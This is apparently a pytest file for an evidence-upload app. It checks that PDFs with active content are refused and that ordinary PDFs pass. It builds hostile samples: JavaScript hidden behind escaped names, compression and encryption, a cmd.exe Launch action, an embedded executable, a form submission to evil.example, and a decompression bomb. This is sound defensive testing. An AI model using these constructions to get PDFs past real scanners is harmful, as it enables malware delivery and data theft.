"""Evidence PDFs with active content are refused whatever their encoding: the PDF is parsed and every object
walked, so scripts and actions hidden in compressed object streams, behind escaped names or encryption, in
attached files, XFA forms, page and annotation actions are found; a PDF that cannot be parsed is refused too."""
import struct
import sys
import zlib

import pytest
import sqlalchemy as sa
from pikepdf import AttachedFileSpec, Dictionary, Encryption, Name, ObjectStreamMode, String

from ipdesk.evidence import documents
from ipdesk.evidence.models import EvidenceFile, EvidenceItem
from ipdesk.extensions import db
from tests.evidence.conftest import pdf_bytes
from tests.evidence.test_uploads import multipart, stored_files, upload
from tests.factories import make_case

PACKED = {"object_stream_mode": ObjectStreamMode.generate}  # every dictionary inside a Flate-compressed stream
SCRIPT = "contains scripts (JavaScript)"
OUTWARD = "can start programs, open other files or send data elsewhere"


def handmade(*objects: bytes) -> bytes:
    """A PDF written by hand, as qpdf would never write it (escaped names); object 1 is the catalog, and the
    cross-reference table is exact, so nothing but the names is unusual."""
    out = bytearray(b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n")
    offsets = []
    for number, body in enumerate(objects, 1):
        offsets.append(len(out))
        out += b"%d 0 obj\n%s\nendobj\n" % (number, body)
    xref = len(out)
    out += b"xref\n0 %d\n0000000000 65535 f \n" % (len(objects) + 1)
    out += b"".join(b"%010d 00000 n \n" % offset for offset in offsets)
    out += b"trailer\n<< /Size %d /Root 1 0 R >>\nstartxref\n%d\n%%%%EOF\n" % (len(objects) + 1, xref)
    return bytes(out)


PAGES = (b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>", b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] >>")


def escaped_script() -> bytes:
    """/S /JavaScript and /JS written with #-escapes, the script as a hex string: no byte spells them."""
    data = handmade(b"<< /Type /Catalog /Pages 2 0 R /OpenAction 4 0 R >>", *PAGES,
                    b"<< /S /J#61va#53cript /J#53 <6170702e616c657274283129> >>")
    assert b"JavaScript" not in data and b"/JS" not in data and b"alert" not in data
    return data


def escaped_launch() -> bytes:
    data = handmade(b"<< /Type /Catalog /Pages 2 0 R >>", b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
                    b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] /AA << /O << /S /L#61unch "
                    b"/F (cmd.exe) >> >> >>")
    assert b"Launch" not in data
    return data


def unpacking_bomb(megabytes: int = 320) -> bytes:
    """A PDF whose one object sits in an object stream that unpacks to ``megabytes`` (a few hundred kB stored)."""
    packer = zlib.compressobj(9)
    spaces = b" " * (1 << 20)
    data = packer.compress(b"4 0 ") + b"".join(packer.compress(spaces) for _ in range(megabytes))
    data += packer.compress(b"<< /S /JavaScript /JS (app.alert(1)) >>") + packer.flush()
    out = bytearray(b"%PDF-1.7\n")
    offsets = {}
    for number, body in ((1, b"<< /Type /Catalog /Pages 2 0 R /OpenAction 4 0 R >>"), (2, PAGES[0]), (3, PAGES[1]),
                         (5, b"<< /Type /ObjStm /N 1 /First 4 /Filter /FlateDecode /Length %d >>\nstream\n%s\n"
                             b"endstream" % (len(data), data))):
        offsets[number] = len(out)
        out += b"%d 0 obj\n%s\nendobj\n" % (number, body)
    offsets[6] = len(out)
    rows = struct.pack(">BIH", 0, 0, 65535) + b"".join(struct.pack(">BIH", 1, offsets[n], 0) for n in (1, 2, 3))
    rows += struct.pack(">BIH", 2, 5, 0) + b"".join(struct.pack(">BIH", 1, offsets[n], 0) for n in (5, 6))
    out += b"6 0 obj\n<< /Type /XRef /W [1 4 2] /Size 7 /Root 1 0 R /Length %d >>\nstream\n%s\nendstream\nendobj\n" \
           b"startxref\n%d\n%%%%EOF\n" % (len(rows), rows, offsets[6])
    return bytes(out)


def _open_action_script(pdf):
    pdf.Root.OpenAction = pdf.make_indirect(Dictionary(S=Name.JavaScript, JS=String("app.alert(1)")))


def _document_script(pdf):
    script = pdf.make_indirect(Dictionary(S=Name.JavaScript, JS=pdf.make_stream(b"app.launchURL('x')")))
    pdf.Root.Names = Dictionary(JavaScript=Dictionary(Names=[String("init"), script]))


def _attachment(pdf):
    pdf.attachments["invoice.exe"] = AttachedFileSpec(pdf, b"MZ\x90\x00" + b"\x00" * 64)


def _xfa(pdf):
    pdf.Root.AcroForm = Dictionary(Fields=[], XFA=pdf.make_stream(b"<xdp:xdp xmlns:xdp='http://ns.adobe.com/xdp/'/>"))


def _page_launch(pdf):
    pdf.pages[0].AA = Dictionary(O=Dictionary(S=Name.Launch, F=String("cmd.exe"), NewWindow=True))


def _annotation(action_key: str, action: Dictionary):
    def build(pdf):
        annotation = Dictionary(Type=Name.Annot, Subtype=Name.Link, Rect=[0, 0, 100, 100])
        annotation[action_key] = action if action_key == "/A" else Dictionary(E=action)
        pdf.pages[0].Annots = [pdf.make_indirect(annotation)]
    return build


def _chained_script(pdf):  # a harmless first action whose /Next runs a script
    pdf.Root.OpenAction = Dictionary(S=Name.GoTo, D=[pdf.pages[0].obj, Name.Fit],
                                     Next=Dictionary(S=Name.JavaScript, JS=String("app.alert(1)")))


def _rich_media(pdf):
    pdf.pages[0].Annots = [pdf.make_indirect(Dictionary(Type=Name.Annot, Subtype=Name.RichMedia,
                                                        Rect=[0, 0, 100, 100]))]


HOSTILE = {
    # name: (file, what the user is told)
    "script run on opening": (lambda: pdf_bytes(build=_open_action_script), SCRIPT),
    "script in a compressed object stream": (lambda: pdf_bytes(build=_open_action_script, **PACKED), SCRIPT),
    "script behind escaped names": (escaped_script, SCRIPT),
    "script of the document (Names tree), packed": (lambda: pdf_bytes(build=_document_script, **PACKED), SCRIPT),
    "script behind encryption (empty password), packed": (lambda: pdf_bytes(
        build=_open_action_script, encryption=Encryption(owner="owner", user=""), **PACKED), SCRIPT),
    "script chained after a harmless action": (lambda: pdf_bytes(build=_chained_script, **PACKED), SCRIPT),
    "attached program": (lambda: pdf_bytes(build=_attachment, **PACKED), "carries other files inside it"),
    "XFA form": (lambda: pdf_bytes(build=_xfa, **PACKED), "is an XFA form"),
    "page opens a program": (lambda: pdf_bytes(build=_page_launch, **PACKED), OUTWARD),
    "launch behind escaped names": (escaped_launch, OUTWARD),
    "link sends the form": (lambda: pdf_bytes(build=_annotation("/A", Dictionary(
        S=Name.SubmitForm, F=String("https://evil.example/collect"))), **PACKED), OUTWARD),
    "annotation imports data": (lambda: pdf_bytes(build=_annotation("/AA", Dictionary(
        S=Name.ImportData, F=String("\\\\evil.example\\share\\x.fdf"))), **PACKED), OUTWARD),
    "link to a javascript: address": (lambda: pdf_bytes(build=_annotation("/A", Dictionary(
        S=Name.URI, URI=String("JavaScript:alert(1)"))), **PACKED), OUTWARD),
    "Flash (RichMedia)": (lambda: pdf_bytes(build=_rich_media, **PACKED), "multimedia or 3D content"),
    "not a PDF past its header": (lambda: b"%PDF-1.7\n" + b"not a PDF at all\n" * 40, "it is damaged"),
    "password needed to open": (lambda: pdf_bytes(encryption=Encryption(owner="owner", user="secret")),
                                "protected by a password"),
    "unpacks to hundreds of megabytes": (unpacking_bomb, "could not be checked within the memory and time"),
}


@pytest.fixture
def officer_case(client, factories, login_as):
    login_as(factories.staff(hub_codes=("cn-north",)))
    return make_case("evidence")


@pytest.mark.db_independent  # refused by its content, before anything is written
@pytest.mark.parametrize("attack", HOSTILE)
def test_a_pdf_with_active_content_is_refused(app, client, officer_case, attack):
    make, message = HOSTILE[attack]
    response = upload(client, officer_case, ("contract.pdf", make()), kind="document",
                      description="Distributor's contract")
    page = response.get_data(as_text=True)
    assert response.status_code == 422, attack
    assert "The file contract.pdf is refused" in page and message in page, attack
    assert "Distributor&#39;s contract" in page  # what was typed is still there
    assert db.session.scalar(sa.select(sa.func.count()).select_from(EvidenceFile)) == 0
    assert db.session.scalar(sa.select(sa.func.count()).select_from(EvidenceItem)) == 0
    assert stored_files(app) == []  # not even a temporary file


def test_the_reason_is_given_in_korean(client, officer_case):
    response = client.post(f"/cases/{officer_case.id}/evidence", headers={"Accept-Language": "ko"},
                           **multipart({"kind": "document", "description": "계약서"},
                                       [("계약서.pdf", escaped_script())]))
    assert response.status_code == 422
    assert "스크립트(JavaScript)" in response.get_data(as_text=True)


@pytest.mark.storage  # runs again on S3
@pytest.mark.parametrize("build, save", [
    (None, {}),
    (None, PACKED),
    (lambda pdf: setattr(pdf.Root, "OpenAction", pdf.make_indirect(
        Dictionary(S=Name.GoTo, D=[pdf.pages[0].obj, Name.Fit]))), PACKED),  # opens at its first page
    (_annotation("/A", Dictionary(S=Name.URI, URI=String("https://shop.example/item/1"))), PACKED),  # a web link
    (None, {"encryption": Encryption(owner="owner", user="")}),  # printing restricted, anyone may read it
], ids=["plain", "packed", "opens at page 1", "web link", "owner password only"])
def test_an_ordinary_pdf_goes_through_and_comes_back_unchanged(client, officer_case, build, save):
    content = pdf_bytes(build=build, **save)
    assert upload(client, officer_case, ("contract.pdf", content), kind="document").status_code == 302
    file = db.session.scalar(sa.select(EvidenceFile))
    assert file.content_type == "application/pdf"
    download = client.get(f"/cases/{officer_case.id}/evidence/files/{file.id}")
    assert download.get_data() == content
    download.close()


@pytest.mark.storage  # runs again on S3
@pytest.mark.parametrize("fault, message", [
    ("timeout", "could not be checked within the memory and time allowed"),  # the child is stopped, not waited for
    ("no process", "could not be checked just now; upload it again in a moment"),
])
def test_a_check_that_cannot_finish_refuses_the_pdf_with_a_reason(app, client, officer_case, monkeypatch, fault,
                                                                 message):
    if fault == "timeout":
        monkeypatch.setattr(documents, "PDF_CHECK_SECONDS", 0.001)
    else:
        monkeypatch.setattr(sys, "executable", "/nonexistent/python3")
    response = upload(client, officer_case, ("contract.pdf", pdf_bytes()), kind="document")
    assert response.status_code == 422 and message in response.get_data(as_text=True)
    assert stored_files(app) == []
